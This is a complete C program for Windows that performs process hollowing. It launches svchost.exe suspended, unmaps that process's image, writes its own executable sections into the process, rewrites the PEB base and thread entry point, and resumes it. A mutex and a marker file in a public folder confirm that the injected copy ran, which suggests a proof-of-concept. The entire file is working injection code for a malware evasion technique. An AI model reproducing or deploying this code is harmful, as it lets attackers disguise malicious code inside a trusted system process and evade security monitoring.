/* Hollows a suspended svchost.exe: unmaps its image, writes this program's own in its place, and resumes it. */
#include <windows.h>
#include <stdio.h>

typedef LONG(NTAPI *unmap)(HANDLE, PVOID);

int main(int argc, char **argv)
{
    char self[MAX_PATH];
    GetModuleFileNameA(NULL, self, MAX_PATH);
    char *image = (char *)GetModuleHandleA(NULL);
    HANDLE mark = CreateMutexA(NULL, FALSE, "HollowOnce");
    if (GetLastError() == ERROR_ALREADY_EXISTS) {
        CreateFileA("C:\\Users\\Public\\hollowed.txt", GENERIC_WRITE, 0, NULL, CREATE_ALWAYS, 0, NULL);
        return 3;
    }
    HANDLE file = CreateFileA(self, GENERIC_READ, FILE_SHARE_READ, NULL, OPEN_EXISTING, 0, NULL);
    DWORD size = GetFileSize(file, NULL), got;
    char *raw = (char *)VirtualAlloc(NULL, size, MEM_COMMIT, PAGE_READWRITE);
    ReadFile(file, raw, size, &got, NULL);
    CloseHandle(file);
    STARTUPINFOA si = {sizeof si};
    PROCESS_INFORMATION pi;
    char command[] = "C:\\Windows\\System32\\svchost.exe -k netsvcs";
    if (!CreateProcessA(NULL, command, NULL, NULL, FALSE, CREATE_SUSPENDED, NULL, NULL, &si, &pi)) return 1;
    CONTEXT context;
    context.ContextFlags = CONTEXT_FULL;
    GetThreadContext(pi.hThread, &context);
#ifdef _WIN64
    char *peb = (char *)context.Rdx + 0x10;
#else
    char *peb = (char *)context.Ebx + 8;
#endif
    void *base = NULL;
    ReadProcessMemory(pi.hProcess, peb, &base, sizeof base, NULL);
    ((unmap)GetProcAddress(GetModuleHandleA("ntdll.dll"), "NtUnmapViewOfSection"))(pi.hProcess, base);
    IMAGE_NT_HEADERS *nt = (IMAGE_NT_HEADERS *)(raw + ((IMAGE_DOS_HEADER *)raw)->e_lfanew);
    char *there = (char *)VirtualAllocEx(pi.hProcess, (void *)nt->OptionalHeader.ImageBase, nt->OptionalHeader.SizeOfImage,
                                         MEM_COMMIT | MEM_RESERVE, PAGE_EXECUTE_READWRITE);
    WriteProcessMemory(pi.hProcess, there, raw, nt->OptionalHeader.SizeOfHeaders, NULL);
    IMAGE_SECTION_HEADER *section = IMAGE_FIRST_SECTION(nt);
    for (int i = 0; i < nt->FileHeader.NumberOfSections; i++)
        WriteProcessMemory(pi.hProcess, there + section[i].VirtualAddress, raw + section[i].PointerToRawData,
                           section[i].SizeOfRawData, NULL);
    WriteProcessMemory(pi.hProcess, peb, &there, sizeof there, NULL);
#ifdef _WIN64
    context.Rcx = (DWORD64)(there + nt->OptionalHeader.AddressOfEntryPoint);
#else
    context.Eax = (DWORD)(there + nt->OptionalHeader.AddressOfEntryPoint);
#endif
    SetThreadContext(pi.hThread, &context);
    ResumeThread(pi.hThread);
    WaitForSingleObject(pi.hProcess, 10000);
    DWORD status = 0;
    GetExitCodeProcess(pi.hProcess, &status);
    printf("%p %lu %p\n", mark, status, image);
    return status == 3 ? 0 : 2;
}
